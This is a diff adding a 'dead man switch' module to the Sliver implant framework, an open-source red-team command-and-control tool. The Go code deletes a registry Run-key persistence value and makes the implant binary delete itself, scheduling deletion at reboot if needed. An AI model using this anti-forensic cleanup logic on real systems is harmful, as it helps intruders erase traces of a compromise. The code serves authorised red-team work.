@@ -0,0 +1,61 @@
+package deadman
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+// {{if .Config.DeadManSwitchDays}}
+
+import (
+	"errors"
+	"os"
+	"strings"
+
+	"github.com/bishopfox/sliver/implant/sliver/registry"
+	"golang.org/x/sys/windows"
+)
+
+// removeRegistryValue - The path is the hive, the key, and the name of the value
+// e.g. HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater
+func removeRegistryValue(path string) error {
+	parts := strings.Split(path, "\\")
+	if len(parts) < 3 {
+		return errors.New("invalid registry value")
+	}
+	hive := strings.ToUpper(parts[0])
+	key := strings.Join(parts[1:len(parts)-1], "\\")
+	return registry.DeleteKey("", hive, key, parts[len(parts)-1])
+}
+
+// removeSelf - A running executable can't be deleted on windows, so fall back to
+// deleting it on the next reboot (only works if we're elevated)
+func removeSelf() error {
+	executable, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	if os.Remove(executable) == nil {
+		return nil
+	}
+	path, err := windows.UTF16PtrFromString(executable)
+	if err != nil {
+		return err
+	}
+	return windows.MoveFileEx(path, nil, windows.MOVEFILE_DELAY_UNTIL_REBOOT)
+}
+
+// {{end}}